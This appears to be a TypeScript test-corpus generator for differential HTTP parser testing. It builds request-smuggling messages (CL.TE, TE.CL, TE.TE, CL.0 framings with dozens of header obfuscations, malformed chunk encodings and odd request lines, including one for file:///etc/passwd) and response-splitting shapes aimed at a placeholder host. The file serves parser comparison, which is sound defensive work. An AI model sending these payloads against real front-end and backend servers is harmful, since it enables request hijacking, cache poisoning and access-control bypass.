/**
 * Messages in the shapes that request smuggling was found with: two framings, one that some readers do not recognise, line
 * ends that are none, and what stands beside them. Nothing here says what is right: that is for whoever compares readers.
 */

/** A message of the corpus, one octet a character. */
export interface Shape {
  readonly name: string
  readonly text: string
}

const CR = '\r'
const LF = '\n'
const CRLF = '\r\n'

/** What smuggled requests ask for: nobody may ever be asked for it. */
export const SMUGGLED_PATH = '/smuggled'

const POST = 'POST /first HTTP/1.1\r\nHost: shop.example\r\n'
const GET = 'GET /first HTTP/1.1\r\nHost: shop.example\r\n'
const SMUGGLED = `GET ${SMUGGLED_PATH} HTTP/1.1\r\nHost: shop.example\r\n\r\n`
const END = '0\r\n\r\n'

/** A field that some readers see and some do not. `name` and `value` are those of the field that is hidden. */
const DISGUISES: readonly (readonly [string, (name: string, value: string) => string])[] = [
  ['plain', (name, value) => `${name}: ${value}${CRLF}`],
  ['lower case', (name, value) => `${name.toLowerCase()}: ${value}${CRLF}`],
  ['upper case', (name, value) => `${name.toUpperCase()}: ${value.toUpperCase()}${CRLF}`],
  ['no space', (name, value) => `${name}:${value}${CRLF}`],
  ['two spaces', (name, value) => `${name}:  ${value}${CRLF}`],
  ['a tab before the value', (name, value) => `${name}:\t${value}${CRLF}`],
  ['a tab behind the value', (name, value) => `${name}: ${value}\t${CRLF}`],
  ['a space behind the value', (name, value) => `${name}: ${value} ${CRLF}`],
  ['a space before the colon', (name, value) => `${name} : ${value}${CRLF}`],
  ['a tab before the colon', (name, value) => `${name}\t: ${value}${CRLF}`],
  ['a CR before the colon', (name, value) => `${name}${CR}: ${value}${CRLF}`],
  ['a NUL before the colon', (name, value) => `${name}\0: ${value}${CRLF}`],
  ['a space before the name', (name, value) => ` ${name}: ${value}${CRLF}`],
  ['a tab before the name', (name, value) => `\t${name}: ${value}${CRLF}`],
  ['a CR before the name', (name, value) => `${CR}${name}: ${value}${CRLF}`],
  ['an LF before the name', (name, value) => `${LF}${name}: ${value}${CRLF}`],
  ['a vertical tab before the name', (name, value) => `\x0b${name}: ${value}${CRLF}`],
  ['a byte order mark before the name', (name, value) => `\xef\xbb\xbf${name}: ${value}${CRLF}`],
  ['behind a field that an LF ends', (name, value) => `x: y${LF}${name}: ${value}${CRLF}`],
  ['behind a field that a CR ends', (name, value) => `x: y${CR}${name}: ${value}${CRLF}`],
  ['behind a field that CR CR LF ends', (name, value) => `x: y${CR}${CRLF}${name}: ${value}${CRLF}`],
  ['behind a field that LF CR ends', (name, value) => `x: y${LF}${CR}${name}: ${value}${CRLF}`],
  ['behind a NUL', (name, value) => `x: y\0${CRLF}${name}: ${value}${CRLF}`],
  ['on a folded line', (name, value) => `x: y${CRLF} ${name}: ${value}${CRLF}`],
  ['its value folded', (name, value) => `${name}:${CRLF} ${value}${CRLF}`],
  ['its value folded by a tab', (name, value) => `${name}:${CRLF}\t${value}${CRLF}`],
  ['its value followed by a folded line', (name, value) => `${name}: ${value}${CRLF} x${CRLF}`],
  ['ended by LF', (name, value) => `${name}: ${value}${LF}`],
  ['ended by CR', (name, value) => `${name}: ${value}${CR}`],
  ['an underscore for the dash', (name, value) => `${name.replace('-', '_')}: ${value}${CRLF}`],
  ['a space for the dash', (name, value) => `${name.replace('-', ' ')}: ${value}${CRLF}`],
  ['no dash', (name, value) => `${name.replace('-', '')}: ${value}${CRLF}`],
  ['an X in front', (name, value) => `X-${name}: ${value}${CRLF}`],
  ['a letter too many', (name, value) => `${name}x: ${value}${CRLF}`],
  ['a soft hyphen in it', (name, value) => `${name.replace('-', '\xad-')}: ${value}${CRLF}`],
  ['an accent on it', (name, value) => `${name.replace('e', '\xe9')}: ${value}${CRLF}`],
  ['in quotes', (name, value) => `${name}: "${value}"${CRLF}`],
  ['in single quotes', (name, value) => `${name}: '${value}'${CRLF}`],
  ['a comma before the value', (name, value) => `${name}: ,${value}${CRLF}`],
  ['a comma behind the value', (name, value) => `${name}: ${value},${CRLF}`],
  ['a semicolon behind the value', (name, value) => `${name}: ${value};${CRLF}`],
  ['a parameter', (name, value) => `${name}: ${value};q=1${CRLF}`],
  ['a comment', (name, value) => `${name}: ${value} (x)${CRLF}`],
  ['a NUL behind the value', (name, value) => `${name}: ${value}\0${CRLF}`],
  ['a vertical tab before the value', (name, value) => `${name}: \x0b${value}${CRLF}`],
  ['a form feed before the value', (name, value) => `${name}: \x0c${value}${CRLF}`],
  ['a no-break space before the value', (name, value) => `${name}: \xa0${value}${CRLF}`],
  ['a next-line before the value', (name, value) => `${name}: \x85${value}${CRLF}`],
  ['a backslash behind the value', (name, value) => `${name}: ${value}\\${CRLF}`],
  ['an escape in the value', (name, value) => `${name}: %${hexOf(value)}${value.slice(1)}${CRLF}`],
  ['an empty line of it before', (name, value) => `${name}:${CRLF}${name}: ${value}${CRLF}`],
  ['another value before', (name, value) => `${name}: x${CRLF}${name}: ${value}${CRLF}`],
  ['another value behind', (name, value) => `${name}: ${value}${CRLF}${name}: x${CRLF}`],
  ['the same twice', (name, value) => `${name}: ${value}${CRLF}${name}: ${value}${CRLF}`],
  ['the same twice in a list', (name, value) => `${name}: ${value}, ${value}${CRLF}`],
  ['a value before it in a list', (name, value) => `${name}: identity, ${value}${CRLF}`],
  ['a value behind it in a list', (name, value) => `${name}: ${value}, identity${CRLF}`],
  ['a sign', (name, value) => `${name}: +${value}${CRLF}`],
  ['a minus', (name, value) => `${name}: -${value}${CRLF}`],
  ['a zero before it', (name, value) => `${name}: 0${value}${CRLF}`],
  ['a point behind it', (name, value) => `${name}: ${value}.0${CRLF}`],
  ['an exponent behind it', (name, value) => `${name}: ${value}e0${CRLF}`],
  ['an x in front', (name, value) => `${name}: x${value}${CRLF}`],
  ['0x in front', (name, value) => `${name}: 0x${value}${CRLF}`],
  ['named in Connection', (name, value) => `Connection: ${name}${CRLF}${name}: ${value}${CRLF}`],
  ['named in Connection behind it', (name, value) => `${name}: ${value}${CRLF}Connection: close, ${name}${CRLF}`],
]

function hexOf(text: string): string {
  return text.charCodeAt(0).toString(16)
}

/** By the names that people have given them. `V` stands where the disguised field goes. */
const CLASSES: readonly (readonly [string, 'te' | 'cl', (field: string) => string])[] = [
  ['CL.TE', 'te', (te) => `${POST}Content-Length: ${END.length + SMUGGLED.length}\r\n${te}\r\n${END}${SMUGGLED}`],
  ['TE before CL', 'te', (te) => `${POST}${te}Content-Length: ${END.length}\r\n\r\n${END}${SMUGGLED}`],
  ['TE.CL', 'te', (te) => `${POST}Content-Length: 4\r\n${te}\r\n${chunkOf(SMUGGLED)}${END}`],
  ['TE.0', 'te', (te) => `${POST}${te}\r\n${chunkOf(SMUGGLED)}${END}`],
  ['TE alone', 'te', (te) => `${POST}${te}\r\n${END}${SMUGGLED}`],
  ['TE of GET', 'te', (te) => `${GET}${te}\r\n${END}${SMUGGLED}`],
  [
    'TE of HTTP/1.0',
    'te',
    (te) => `POST /first HTTP/1.0\r\nHost: shop.example\r\nConnection: keep-alive\r\n${te}\r\n${END}${SMUGGLED}`,
  ],
  ['TE.TE', 'te', (te) => `${POST}Transfer-Encoding: chunked\r\n${te}\r\n${chunkOf(SMUGGLED)}${END}`],
  ['CL.0', 'cl', (cl) => `${POST}${cl}\r\n${SMUGGLED}`],
  ['CL of GET', 'cl', (cl) => `${GET}${cl}\r\n${SMUGGLED}`],
  ['CL.CL', 'cl', (cl) => `${POST}Content-Length: 0\r\n${cl}\r\n${SMUGGLED}`],
  ['CL beside TE', 'cl', (cl) => `${POST}Transfer-Encoding: chunked\r\n${cl}\r\n${END}${SMUGGLED}`],
]

function chunkOf(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n`
}

/** Sizes, extensions and ends of chunks that readers have disagreed about. Each is a whole body or the start of one. */
const CHUNKED_BODIES: readonly (readonly [string, string])[] = [
  ...[
    ' 5',
    '5 ',
    '\t5',
    '5\t',
    '+5',
    '-5',
    '0x5',
    '0X5',
    '5h',
    '5.',
    '5,',
    '5_',
    '5\0',
    '5\x0b',
    '5\x0c',
    '5\x85',
    '5\xa0',
  ].map((size): readonly [string, string] => [
    `a size ${JSON.stringify(size)}`,
    `${size}\r\nabcde\r\n${END}${SMUGGLED}`,
  ]),
  ...[
    '05',
    '005',
    '0000000000000005',
    '00000000000000005',
    '5;',
    '5;a',
    '5;a=b',
    '5;a="b"',
    '5;a="\\""',
    '5 ;a',
    '5; a',
    '5;a =b',
    '5;a= b',
    '5;a;',
    '5;=',
    '5;a="',
    '5;a=b"c',
    '5;a,b',
    '5;;a',
    '5;a\tb',
  ].map((size): readonly [string, string] => [`a size line ${size}`, `${size}\r\nabcde\r\n${END}${SMUGGLED}`]),
  ['a size of 64 bits and more', `10000000000000005\r\nabcde\r\n${END}${SMUGGLED}`],
  ['a size of 32 bits and more', `100000005\r\nabcde\r\n${END}${SMUGGLED}`],
  ['a size of all ones', `ffffffffffffffff\r\nabcde\r\n${END}${SMUGGLED}`],
  ['a size that ends by LF', `5\nabcde\r\n${END}${SMUGGLED}`],
  ['a size that ends by CR', `5\rabcde\r\n${END}${SMUGGLED}`],
  ['a size that ends by LF CR', `5\n\rabcde\r\n${END}${SMUGGLED}`],
  ['a size that ends by CR CR LF', `5\r\r\nabcde\r\n${END}${SMUGGLED}`],
  ['an extension that hides an LF', `5;\n\r\nabcde\r\n${END}${SMUGGLED}`],
  ['an extension that hides a request', `5;a\n${SMUGGLED}\r\nabcde\r\n${END}`],
  ['a quoted extension that hides a request', `5;a="\r\n${SMUGGLED}"\r\nabcde\r\n${END}`],
  ['a chunk that ends by LF', `5\r\nabcde\n${END}${SMUGGLED}`],
  ['a chunk that ends by CR', `5\r\nabcde\r${END}${SMUGGLED}`],
  ['a chunk without end', `5\r\nabcde${END}${SMUGGLED}`],
  ['a chunk with an end too many', `5\r\nabcde\r\n\r\n${END}${SMUGGLED}`],
  ['a chunk that is longer', `5\r\nabcdef\r\n${END}${SMUGGLED}`],
  ['a chunk that is shorter', `5\r\nabcd\r\n${END}${SMUGGLED}`],
  ['a last chunk of many zeros', `5\r\nabcde\r\n0000\r\n\r\n${SMUGGLED}`],
  ['a last chunk with an extension', `5\r\nabcde\r\n0;a\r\n\r\n${SMUGGLED}`],
  ['a last chunk that ends by LF', `5\r\nabcde\r\n0\n\r\n${SMUGGLED}`],
  ['an end by LF', `5\r\nabcde\r\n0\r\n\n${SMUGGLED}`],
  ['an end by CR', `5\r\nabcde\r\n0\r\n\r${SMUGGLED}`],
  ['an end that is missing', `5\r\nabcde\r\n0\r\n${SMUGGLED}`],
  ['an end with octets in it', `5\r\nabcde\r\n0\r\nxx${SMUGGLED}`],
  ['a negative last chunk', `5\r\nabcde\r\n-0\r\n\r\n${SMUGGLED}`],
  ['a trailer', `5\r\nabcde\r\n0\r\nx: y\r\n\r\n${SMUGGLED}`],
  ['a trailer that ends by LF', `5\r\nabcde\r\n0\r\nx: y\n\r\n${SMUGGLED}`],
  ['a trailer that is folded', `5\r\nabcde\r\n0\r\nx: y\r\n z\r\n\r\n${SMUGGLED}`],
  ['a trailer that is a length', `5\r\nabcde\r\n0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`],
  ['a trailer that is a coding', `5\r\nabcde\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED}`],
  ['a trailer without colon', `5\r\nabcde\r\n0\r\nx\r\n\r\n${SMUGGLED}`],
  ['a trailer with a space before its colon', `5\r\nabcde\r\n0\r\nx : y\r\n\r\n${SMUGGLED}`],
]

/** Start lines and lines between them. */
const LINES: readonly (readonly [string, string])[] = [
  ...[
    'GET /first HTTP/1.1',
    'GET  /first HTTP/1.1',
    'GET /first  HTTP/1.1',
    'GET /first HTTP/1.1 ',
    ' GET /first HTTP/1.1',
    'GET\t/first HTTP/1.1',
    'GET /first\tHTTP/1.1',
    'GET\x0b/first HTTP/1.1',
    'GET /first HTTP/1.1\t',
    'GET /first HTTP/1.1\0',
    'GET /fi\0rst HTTP/1.1',
    'GET /fi\rrst HTTP/1.1',
    'GET /fi rst HTTP/1.1',
    'GET /fi\x80rst HTTP/1.1',
    'GET /first#x HTTP/1.1',
    'GET /first?a#x HTTP/1.1',
    'GET \\first HTTP/1.1',
    'GET first HTTP/1.1',
    'GET ?first HTTP/1.1',
    'GET //first HTTP/1.1',
    'GET * HTTP/1.1',
    'OPTIONS * HTTP/1.1',
    'OPTIONS *x HTTP/1.1',
    'GET http://shop.example/first HTTP/1.1',
    'GET http://shop.example HTTP/1.1',
    'GET http://shop.example?first HTTP/1.1',
    'GET HTTP://SHOP.EXAMPLE/first HTTP/1.1',
    'GET https://shop.example/first HTTP/1.1',
    'GET http://other.example/first HTTP/1.1',
    'GET http://shop.example@other.example/first HTTP/1.1',
    'GET http://other.example@shop.example/first HTTP/1.1',
    'GET http:///first HTTP/1.1',
    'GET http:/first HTTP/1.1',
    'GET http://shop.example:0/first HTTP/1.1',
    'GET http://shop.example:80/first HTTP/1.1',
    'GET ftp://shop.example/first HTTP/1.1',
    'GET file:///etc/passwd HTTP/1.1',
    'GET shop.example:80 HTTP/1.1',
    'CONNECT shop.example:80 HTTP/1.1',
    'get /first HTTP/1.1',
    'Get /first HTTP/1.1',
    'GET\0 /first HTTP/1.1',
    'G\x00ET /first HTTP/1.1',
    'GE T /first HTTP/1.1',
    'FOO /first HTTP/1.1',
    'PRI * HTTP/2.0',
    'GET /first',
    'GET /first HTTP',
    'GET /first HTTP/',
    'GET /first HTTP/1',
    'GET /first HTTP/1.',
    'GET /first HTTP/.1',
    'GET /first HTTP/0.9',
    'GET /first HTTP/1.0',
    'GET /first HTTP/1.2',
    'GET /first HTTP/1.9',
    'GET /first HTTP/1.10',
    'GET /first HTTP/1.01',
    'GET /first HTTP/01.1',
    'GET /first HTTP/+1.1',
    'GET /first HTTP/1,1',
    'GET /first HTTP/1 .1',
    'GET /first HTTP/2.0',
    'GET /first HTTP/3',
    'GET /first HTTP/9.9',
    'GET /first http/1.1',
    'GET /first HTTPS/1.1',
    'GET /first HTTP /1.1',
    'GET /first ICE/1.0',
    'GET /first RTSP/1.0',
    'HTTP/1.1 200 OK',
  ].map((line): readonly [string, string] => [
    JSON.stringify(line),
    `${line}\r\nHost: shop.example\r\n\r\n${SMUGGLED}`,
  ]),
  ['an empty line before', `\r\n${GET}\r\n${SMUGGLED}`],
  ['two empty lines before', `\r\n\r\n${GET}\r\n${SMUGGLED}`],
  ['an LF before', `\n${GET}\r\n${SMUGGLED}`],
  ['a CR before', `\r${GET}\r\n${SMUGGLED}`],
  ['a space before', ` ${GET}\r\n${SMUGGLED}`],
  ['a byte order mark before', `\xef\xbb\xbf${GET}\r\n${SMUGGLED}`],
  ['a NUL before', `\0${GET}\r\n${SMUGGLED}`],
  ['a request line that LF ends', `GET /first HTTP/1.1\nHost: shop.example\r\n\r\n${SMUGGLED}`],
  ['a request line that CR ends', `GET /first HTTP/1.1\rHost: shop.example\r\n\r\n${SMUGGLED}`],
  ['a request line twice', `GET /first HTTP/1.1\r\n${SMUGGLED}`],
  ['white space behind the request line', `GET /first HTTP/1.1\r\n Host: shop.example\r\n\r\n${SMUGGLED}`],
  ['a head that LF LF ends', `GET /first HTTP/1.1\nHost: shop.example\n\n${SMUGGLED}`],
  ['a head that CR CR ends', `GET /first HTTP/1.1\rHost: shop.example\r\r${SMUGGLED}`],
  ['a head that CRLF LF ends', `${GET}\n${SMUGGLED}`],
  ['a head that CRLF CR ends', `${GET}\r${SMUGGLED}`],
  ['a head that CRLF SP CRLF ends', `${GET} \r\n${SMUGGLED}`],
  ['a head that CRLF NUL CRLF ends', `${GET}\0\r\n${SMUGGLED}`],
  ['a name alone', `${GET}x\r\n\r\n${SMUGGLED}`],
  ['a colon alone', `${GET}: x\r\n\r\n${SMUGGLED}`],
  ['a name with a space', `${GET}x y: z\r\n\r\n${SMUGGLED}`],
  ['a name with a slash', `${GET}x/y: z\r\n\r\n${SMUGGLED}`],
  ['a name with brackets', `${GET}x[y]: z\r\n\r\n${SMUGGLED}`],
  ['a name in quotes', `${GET}"x": z\r\n\r\n${SMUGGLED}`],
  ['a value with a DEL', `${GET}x: \x7f\r\n\r\n${SMUGGLED}`],
  ['a value with a bell', `${GET}x: \x07\r\n\r\n${SMUGGLED}`],
  ['a value with an escape', `${GET}x: \x1b[2J\r\n\r\n${SMUGGLED}`],
  ['two hosts', `${GET}Host: shop.example\r\n\r\n${SMUGGLED}`],
  ['two hosts that differ', `${GET}Host: other.example\r\n\r\n${SMUGGLED}`],
  ['no host', `GET /first HTTP/1.1\r\n\r\n${SMUGGLED}`],
  ...[
    '',
    ' ',
    'a b',
    'a,b',
    'a/b',
    'a?b',
    'a#b',
    'a@b',
    'a\\b',
    'a:b',
    'a:80:80',
    'a:99999',
    'a:-1',
    '[::1',
    '::1',
    '[::1]x',
    '[::g]',
    'a..b',
    '.a',
    '0x7f.1',
    '127.1',
    '2130706433',
    'a\0b',
    'a\x80',
    "a'b",
    'a"b',
    'http://a',
    '*',
    '..',
  ].map((host): readonly [string, string] => [
    `the host ${JSON.stringify(host)}`,
    `GET /first HTTP/1.1\r\nHost: ${host}\r\n\r\n${SMUGGLED}`,
  ]),
  ['an Expect that nobody knows', `${POST}Expect: 200-ok\r\nContent-Length: 0\r\n\r\n${SMUGGLED}`],
  ['an Expect twice', `${POST}Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n${SMUGGLED}`],
  [
    'an upgrade to h2c',
    `${GET}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
  ],
  [
    'an upgrade with a body',
    `${POST}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  ],
  ['an upgrade without a key', `${GET}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n`],
]

/** Every request of the corpus, the smuggled one behind or inside it. */
export function requestShapes(): readonly Shape[] {
  const shapes: Shape[] = []
  for (const [name, kind, build] of CLASSES) {
    for (const [disguise, apply] of DISGUISES) {
      const field =
        kind === 'te' ? apply('Transfer-Encoding', 'chunked') : apply('Content-Length', `${SMUGGLED.length}`)
      shapes.push({ name: `${name}: ${disguise}`, text: build(field) })
    }
  }
  for (const [name, body] of CHUNKED_BODIES) {
    shapes.push({ name: `chunks: ${name}`, text: `${POST}Transfer-Encoding: chunked\r\n\r\n${body}` })
  }
  for (const [name, text] of LINES) shapes.push({ name, text })
  return shapes
}

/** What a backend puts behind its answer, to be taken for the next one. */
export const SECOND_ANSWER = 'HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled'

/** Every response of the corpus, with a second answer behind or inside it. */
export function responseShapes(): readonly Shape[] {
  const shapes: Shape[] = []
  const ok = 'HTTP/1.1 200 OK\r\n'
  const length = `${SECOND_ANSWER.length}`
  for (const [disguise, apply] of DISGUISES) {
    const te = apply('Transfer-Encoding', 'chunked')
    const cl = apply('Content-Length', length)
    shapes.push(
      { name: `CL.TE: ${disguise}`, text: `${ok}Content-Length: 5\r\n${te}\r\n${END}${SECOND_ANSWER}` },
      { name: `TE.CL: ${disguise}`, text: `${ok}${te}Content-Length: 4\r\n\r\n${chunkOf(SECOND_ANSWER)}${END}` },
      { name: `TE: ${disguise}`, text: `${ok}${te}\r\n${END}${SECOND_ANSWER}` },
      { name: `CL: ${disguise}`, text: `${ok}${cl}\r\n${SECOND_ANSWER}` },
      { name: `CL.CL: ${disguise}`, text: `${ok}Content-Length: 0\r\n${cl}\r\n${SECOND_ANSWER}` },
      { name: `204 and CL: ${disguise}`, text: `HTTP/1.1 204 No Content\r\n${cl}\r\n${SECOND_ANSWER}` },
      { name: `304 and TE: ${disguise}`, text: `HTTP/1.1 304 Not Modified\r\n${te}\r\n${END}${SECOND_ANSWER}` },
      { name: `100 and CL: ${disguise}`, text: `HTTP/1.1 100 Continue\r\n${cl}\r\n${SECOND_ANSWER}` },
      {
        name: `HTTP/1.0 and TE: ${disguise}`,
        text: `HTTP/1.0 200 OK\r\nConnection: keep-alive\r\n${te}\r\n${END}${SECOND_ANSWER}`,
      },
    )
  }
  for (const [name, body] of CHUNKED_BODIES) {
    const inside = body.replace(SMUGGLED, SECOND_ANSWER)
    shapes.push({ name: `chunks: ${name}`, text: `${ok}Transfer-Encoding: chunked\r\n\r\n${inside}` })
  }
  for (const line of [
    'HTTP/1.1 200 OK',
    'HTTP/1.1 200',
    'HTTP/1.1 200 ',
    'HTTP/1.1  200 OK',
    'HTTP/1.1 200\tOK',
    'HTTP/1.1\t200 OK',
    ' HTTP/1.1 200 OK',
    '\r\nHTTP/1.1 200 OK',
    'HTTP/1.1 20 OK',
    'HTTP/1.1 2000 OK',
    'HTTP/1.1 -200 OK',
    'HTTP/1.1 099 OK',
    'HTTP/1.1 600 OK',
    'HTTP/1.1 200 O\rK',
    'HTTP/1.1 200 O\0K',
    'HTTP/1.2 200 OK',
    'HTTP/2 200',
    'HTTP/2.0 200 OK',
    'http/1.1 200 OK',
    'ICY 200 OK',
    'HTTP/0.9 200 OK',
    'HTTP/1.1 100 Continue',
    'HTTP/1.1 101 Switching Protocols',
    'HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket',
    'HTTP/1.1 103 Early Hints',
    'HTTP/1.1 204 No Content',
    'HTTP/1.1 205 Reset Content',
    'HTTP/1.1 304 Not Modified',
    'GET / HTTP/1.1',
  ]) {
    shapes.push(
      { name: `${JSON.stringify(line)} of no length`, text: `${line}\r\nContent-Length: 0\r\n\r\n${SECOND_ANSWER}` },
      { name: `${JSON.stringify(line)} without framing`, text: `${line}\r\n\r\n${SECOND_ANSWER}` },
      { name: `${JSON.stringify(line)} ended by LF`, text: `${line}\nContent-Length: 0\n\n${SECOND_ANSWER}` },
    )
  }
  return shapes
}
